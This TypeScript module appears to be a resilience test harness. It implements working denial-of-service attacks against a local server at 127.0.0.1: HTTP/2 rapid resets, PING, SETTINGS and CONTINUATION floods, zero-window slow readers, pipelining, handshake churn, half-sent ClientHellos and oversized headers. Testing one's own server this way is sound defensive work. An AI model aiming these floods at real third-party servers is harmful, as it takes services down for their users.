import { type Socket, connect as connectTcp } from 'node:net';
import { type TLSSocket, connect } from 'node:tls';

/** Frame types and flags of RFC 9113. */
const FRAME = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 } as const;
const END_STREAM = 1;
const END_HEADERS = 4;
const ACK = 1;
const STREAMS = 100;
const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';

export interface Attack {
  /** Works on one connection after the other until the signal aborts; rejects when a connection ends otherwise. */
  readonly connection: (port: number, signal: AbortSignal) => Promise<void>;
  /** Connections at once, for one of the flood's. */
  readonly share: number;
}

function frame(type: number, flags: number, stream: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const literal = (index: number, value: string): Buffer =>
  Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value)]);
/** HPACK of an anonymous `GET /healthz`. */
const HEALTHZ = Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, '/healthz'), literal(0x01, 'localhost')]);
const get = (stream: number): Buffer => frame(FRAME.headers, END_STREAM | END_HEADERS, stream, HEALTHZ);

/** Runs one connection: `begin` when it is secured, then `step` whenever what was written has gone out. */
function http2Connection(
  port: number,
  signal: AbortSignal,
  settings: Uint8Array,
  begin: (socket: TLSSocket) => void,
  onFrame: (type: number, flags: number, socket: TLSSocket) => void = () => {},
): Promise<void> {
  const socket = connect({ host: '127.0.0.1', port, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
  let rest: Buffer = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    rest = rest.length === 0 ? chunk : Buffer.concat([rest, chunk]);
    let at = 0;
    while (rest.length >= at + 9 && rest.length >= at + 9 + rest.readUIntBE(at, 3)) {
      onFrame(rest[at + 3]!, rest[at + 4]!, socket);
      at += 9 + rest.readUIntBE(at, 3);
    }
    rest = rest.subarray(at);
  });
  socket.once('secureConnect', () => {
    socket.write(Buffer.concat([Buffer.from(PREFACE), frame(FRAME.settings, 0, 0, settings)]));
    begin(socket);
  });
  return ended(socket, signal);
}

/** Resolves when the connection has ended by whomever. */
function ended(socket: Socket, signal: AbortSignal): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const abort = (): void => void socket.destroy();
  signal.addEventListener('abort', abort, { once: true });
  socket.on('error', () => {});
  socket.once('close', () => {
    signal.removeEventListener('abort', abort);
    resolve();
  });
  if (signal.aborted) abort();
  return promise;
}

/** Keeps as many requests under way as a connection may have. */
function flood(port: number, signal: AbortSignal): Promise<void> {
  let next = 1;
  let bytes = 0;
  const more = (count: number): Buffer => {
    const frames = Array.from({ length: count }, (_, index) => get(next + 2 * index));
    next += 2 * count;
    return Buffer.concat(frames);
  };
  return http2Connection(
    port,
    signal,
    Buffer.alloc(0),
    (socket) => socket.write(more(STREAMS)),
    (type, flags, socket) => {
      if (type === FRAME.settings && (flags & ACK) === 0) socket.write(frame(FRAME.settings, ACK, 0));
      if (type !== FRAME.data || (flags & END_STREAM) === 0) return;
      bytes += 2;
      socket.write(more(1));
      if (bytes < 10_000) return;
      const increment = Buffer.alloc(4);
      increment.writeUInt32BE(bytes);
      socket.write(frame(FRAME.windowUpdate, 0, 0, increment));
      bytes = 0;
    },
  );
}

/** Writes the same kind of thing again and again, as fast as it goes out. */
function torrent(settings: Uint8Array, batch: (round: number) => Buffer): Attack['connection'] {
  return (port, signal) => {
    let round = 0;
    const pour = (socket: Socket): void => {
      while (!socket.destroyed && !signal.aborted && socket.write(batch(round++)));
    };
    return http2Connection(port, signal, settings, (socket) => {
      socket.on('drain', () => pour(socket));
      pour(socket);
    });
  };
}

const rapidResets = torrent(Buffer.alloc(0), (round) =>
  Buffer.concat(
    Array.from({ length: STREAMS }, (_, index) => {
      const stream = 2 * (round * STREAMS + index) + 1;
      return Buffer.concat([get(stream), frame(FRAME.reset, 0, stream, Buffer.from([0, 0, 0, 8]))]);
    }),
  ),
);

const pings = torrent(Buffer.alloc(0), () =>
  Buffer.concat(Array.from({ length: STREAMS }, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8)))),
);

const settings = torrent(Buffer.alloc(0), () =>
  Buffer.concat(Array.from({ length: STREAMS }, () => frame(FRAME.settings, 0, 0))),
);

const continuations = torrent(Buffer.alloc(0), (round) =>
  round === 0
    ? frame(FRAME.headers, END_STREAM, 1, HEALTHZ)
    : frame(
        FRAME.continuation,
        0,
        1,
        Buffer.concat([Buffer.from([0, 1, 0x78, 0x7f, 0x81, 0x7c]), Buffer.alloc(16_000)]),
      ),
);

/** Gives no window for any answer, and so takes none. */
function slowReader(port: number, signal: AbortSignal): Promise<void> {
  return http2Connection(port, signal, Buffer.from([0, 4, 0, 0, 0, 0]), (socket) => {
    for (let stream = 1; stream < 2 * STREAMS; stream += 2) socket.write(get(stream));
  });
}

/** Requests over HTTP/1.1 without a look at the answers, or for whether there are any. */
function pipelined(port: number, signal: AbortSignal): Promise<void> {
  const socket = connect({ host: '127.0.0.1', port, rejectUnauthorized: false, ALPNProtocols: ['http/1.1'] });
  const requests = Buffer.from('GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(STREAMS));
  const pour = (): void => {
    while (!socket.destroyed && !signal.aborted && socket.write(requests));
  };
  socket.resume().on('drain', pour).once('secureConnect', pour);
  return ended(socket, signal);
}

/** A handshake, and gone. */
function handshake(port: number, signal: AbortSignal): Promise<void> {
  const socket = connect({ host: '127.0.0.1', port, rejectUnauthorized: false });
  socket.once('secureConnect', () => socket.destroy());
  return ended(socket, signal);
}

/** The first bytes of a ClientHello, and then nothing. */
function halfHello(port: number, signal: AbortSignal): Promise<void> {
  const socket = connectTcp({ host: '127.0.0.1', port });
  socket.once('connect', () => socket.write(Buffer.from([0x16, 3, 1, 2, 0, 1])));
  return ended(socket, signal);
}

/** Headers of nearly the largest size that never end. */
function bigHeaders(port: number, signal: AbortSignal): Promise<void> {
  const socket = connect({ host: '127.0.0.1', port, rejectUnauthorized: false, ALPNProtocols: ['http/1.1'] });
  socket.once('secureConnect', () =>
    socket.write(`GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: ${'x'.repeat(1_000_000)}`),
  );
  return ended(socket, signal);
}

export const ATTACKS: Readonly<Record<string, Attack>> = {
  flood: { connection: flood, share: 1 },
  'rapid resets': { connection: rapidResets, share: 0.25 },
  pings: { connection: pings, share: 0.25 },
  settings: { connection: settings, share: 0.25 },
  continuations: { connection: continuations, share: 0.25 },
  'slow readers': { connection: slowReader, share: 5 },
  pipelined: { connection: pipelined, share: 0.25 },
  handshakes: { connection: handshake, share: 1 },
  'half hellos': { connection: halfHello, share: 20 },
  'big headers': { connection: bigHeaders, share: 1 },
};
